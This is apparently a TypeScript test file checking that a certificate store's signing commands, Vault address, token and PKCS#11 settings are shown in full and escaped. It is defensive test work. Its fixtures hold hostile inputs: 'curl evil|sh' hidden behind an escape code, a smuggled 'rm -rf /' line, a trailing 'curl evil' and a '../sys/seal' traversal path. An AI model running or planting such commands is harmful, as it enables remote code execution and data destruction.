/** Settings of a shared store that a person must accept: every value that runs or sends something, and its exact form. */

import { afterAll, expect, test } from 'vitest';
import { openAnyStore } from '../../../src/core/adapters/store/open.ts';
import type { ApiCa, CaSigner } from '../../../src/core/domain/external-ca.ts';
import { storeSettings } from '../../../src/core/domain/store-settings.ts';
import { requestNeedsKey } from '../../../src/core/domain/trust/server.ts';
import { CertificateFactory } from '../../support/certificate-factory.ts';

const factory = new CertificateFactory();
afterAll(() => factory.remove());
const [root, other] = [factory.issue('root', { ca: true }), factory.issue('other', { ca: true })];

const vault: ApiCa = {
  ...{ kind: 'vault', url: 'https://vault:8200/v1/pki', trust: root.cert, credentialFile: '/run/token' },
  profiles: { server: 's', client: 'c', issuer: 'root/sign-intermediate' },
};
const token = { uri: 'pkcs11:object=ca', module: '/usr/lib/softhsm.so', pinFile: '/run/pin' };

test('command, address, file, root, module and PIN are all shown', () => {
  expect(storeSettings({ external: { kind: 'command', command: 'sign {days}' } })?.values).toEqual([
    ['runs', 'sign {days}'],
  ]);
  expect(storeSettings({ external: vault })?.values).toEqual([
    ['sends to', 'vault at https://vault:8200/v1/pki'],
    ['for', 's, c, root/sign-intermediate'],
    ['TLS root', expect.stringMatching(/^root, ([0-9A-F]{2}:){31}/)],
    ['the file', '/run/token'],
  ]);
  expect(storeSettings({ token })?.values.map(([, value]) => value)).toEqual(Object.values(token));
  expect(storeSettings({})).toBeUndefined();
});

test('a file that this user has named is no part of the id', () => {
  const id = (signer: CaSigner) => storeSettings(signer)?.id;
  expect(id({ external: { ...vault, credentialFile: undefined } })).toBe(id({ external: vault }));
  expect(id({ token: { uri: token.uri } })).toBe(id({ token }));
});

test('another value is another id', () => {
  const ids = [
    { external: vault },
    { external: { ...vault, kind: 'cfssl' as const } },
    { external: { ...vault, url: 'https://evil:8200/v1/pki' } },
    { external: { ...vault, trust: other.cert } },
    { external: { ...vault, trust: root.cert + other.cert } },
    { external: { ...vault, profiles: { ...vault.profiles, issuer: '../sys/seal' } } },
    { token },
    { token: { ...token, uri: 'pkcs11:object=b' } },
  ].map((signer) => storeSettings(signer)?.id);
  expect(new Set(ids).size).toBe(ids.length);
});

test.each([
  ['an escape code', 'sign \x1b];curl evil|sh #\x07', 'sign \\u{1b}];curl evil|sh #\\u{7}'],
  ['a letter without width', 'si\u200bgn', 'si\\u{200b}gn'],
  ['a line of its own', 'sign\nrm -rf /', 'sign\\u{a}rm -rf /'],
  ['many blanks', 'sign   x', 'sign\\u{20}\\u{20} x'],
])('%s hides nothing of a command', (_, command, shown) => {
  expect(storeSettings({ external: { kind: 'command', command } })?.values).toEqual([['runs', shown]]);
});

test('a value that nobody would read to its end is refused', () => {
  const command = `sign ${'x'.repeat(1000)}; curl evil`;
  expect(() => storeSettings({ external: { kind: 'command', command } })).toThrow(
    expect.objectContaining({ code: 'E_STORE_SETTINGS', exit: 2 }),
  );
});

test('an external CA certifies no key that the host makes', () => {
  expect(requestNeedsKey('build-1')).toMatchObject({ code: 'E_SIGN_COMMAND', exit: 4, where: 'build-1' });
});

test('what is not the address of a shared store is refused before anything is opened', () => {
  const options = {
    home: '/nowhere',
    url: 'nonsense',
    env: {},
    cwd: '/',
    who: 'me@here',
    now: () => new Date(),
    note() {},
  };
  expect(() => openAnyStore(options)).toThrow(expect.objectContaining({ code: 'E_STORE_URL', exit: 2 }));
});
